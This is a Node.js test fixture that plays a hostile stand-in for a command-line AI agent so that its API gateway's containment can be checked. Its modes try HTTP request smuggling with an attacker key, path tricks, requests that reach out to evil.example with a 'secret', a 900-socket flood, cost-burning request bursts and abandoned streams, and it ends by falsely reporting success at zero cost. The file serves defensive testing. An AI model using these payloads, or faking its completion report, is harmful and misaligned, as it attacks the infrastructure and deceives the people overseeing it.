#!/usr/bin/env node
// A hostile program in the place of a command-line agent: it speaks to its
// gateway by hand. What it does is in its own name, `evil-client-<mode>.mjs`;
// what came of it is in tries.json, and it calls itself a success at no cost.
import { readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { basename } from 'node:path';

const { port } = new URL(process.env.ANTHROPIC_BASE_URL);
const pass = process.env.ANTHROPIC_API_KEY;
const mode = basename(process.argv[1]).replace(/^evil-client-|\.mjs$/g, '');
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Says it on a connection of its own; `{ text }` is all that came back until it closed, or for a while. */
const say = (text, { ms = 20_000, cutAfter } = {}) =>
  new Promise((resolve) => {
    const socket = connect({ port, host: '127.0.0.1' }, () => socket.write(text));
    let answer = '';
    const timer = setTimeout(() => socket.destroy(), ms);
    socket.on('data', (part) => {
      answer += part;
      if (cutAfter !== undefined && answer.length > cutAfter) socket.destroy();
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      clearTimeout(timer);
      resolve(answer);
    });
  });
const head = (line, headers = {}) => {
  const all = { host: 'x', 'x-api-key': pass, connection: 'close', ...headers };
  return `${line} HTTP/1.1\r\n${Object.entries(all)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}\r\n`;
};
const post = (body, headers = {}, path = '/v1/messages') => {
  const text = JSON.stringify(body);
  return head(`POST ${path}`, { 'content-type': 'application/json', 'content-length': text.length, ...headers }) + text;
};
const status = (answer) => Number(/^HTTP\/1\.1 (\d+)/.exec(answer)?.[1] ?? 0);
const plain = { model: 'costly', max_tokens: 1000, messages: [] };

const smuggle = async () => {
  const hidden = 'POST /v1/files HTTP/1.1\r\nhost: x\r\nx-api-key: sk-of-the-attacker\r\ncontent-length: 5000\r\n\r\n';
  const chunk = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
  const asked = [
    head('GET /v1/models', { 'transfer-encoding': 'chunked' }) + chunk,
    head('GET /v1/models', { 'content-length': hidden.length }) + hidden,
    head('POST /v1/messages', { 'content-length': 2, 'transfer-encoding': 'chunked' }) + chunk,
    head('POST /v1/messages', { 'transfer-encoding': 'chunked' }) + chunk,
  ];
  const found = [];
  for (const one of asked) found.push(status(await say(one)));
  return [...found, status(await say(post(plain)))];
};

const PATHS = [
  '/v1/files',
  '/v1/messages/batches',
  '/v1/organizations/me',
  '/v1/../v1/files',
  '//evil.example/v1/messages',
  '/v1/messages?%00',
];
const TOOLS = [
  { tools: [{ type: 'web_search_20250305', name: 'web_search' }] },
  { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
  { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
  { mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'x' }] },
  { container: 'container_x' },
  { messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://evil.example/?secret' } }] }] },
  { messages: [{ role: 'user', content: [{ type: 'document', source: { type: 'file', file_id: 'file_x' } }] }] },
];
const HEADERS = {
  'openai-organization': 'org-x',
  'x-http-method-override': 'DELETE',
  'anthropic-beta': 'mcp-client-2025-04-04,kept-2025-01-01',
};

const crowd = async () => {
  const all = Array.from({ length: 900 }, () => connect({ port, host: '127.0.0.1' }));
  let closed = 0;
  for (const socket of all)
    socket
      .on('error', () => {})
      .on('end', () => socket.destroy())
      .on('close', () => closed++);
  // Those that are too many are closed at once; on a busy machine that takes a while.
  for (let k = 0; k < 150 && closed < all.length - 256; k++) await sleep(100);
  await sleep(500);
  const held = all.length - closed;
  for (const socket of all) socket.destroy();
  await sleep(500);
  return { held, after: status(await say(post(plain))) };
};

const modes = {
  reach: async () => ({
    smuggle: await smuggle(),
    paths: Object.fromEntries(await Promise.all(PATHS.map(async (path) => [path, status(await say(post(plain, {}, path)))]))),
    tools: await Promise.all(TOOLS.map(async (more) => status(await say(post({ ...plain, ...more }))))),
    headers: status(await say(post(plain, HEADERS))),
    without: status(await say(post(plain, { 'x-api-key': 'sk-guessed' }))),
    crowd: await crowd(),
  }),
  spend: async () => ({
    statuses: (await Promise.all(Array.from({ length: 60 }, () => say(post(plain))))).map(status),
    other: status(await say(post({ ...plain, model: 'o9-pro' }))),
  }),
  abort: async () => {
    for (let k = 0; k < 3; k++) await say(post({ ...plain, stream: true }), { cutAfter: 1000 });
    return {};
  },
  leave: async () => {
    void say(post({ ...plain, stream: true }), { ms: 60_000 });
    await sleep(500);
    return {};
  },
};

readFileSync(0);
writeFileSync('tries.json', JSON.stringify(await modes[mode]()));
writeFileSync(process.env.AGENTOS_RESULT_FILE, 'STATUS: complete\nBLOCKER_CODE: none\n\nSUMMARY:\nDid what was asked.\n');
console.log(JSON.stringify({ type: 'result', subtype: 'success', is_error: false, total_cost_usd: 0 }));
process.exit(0);
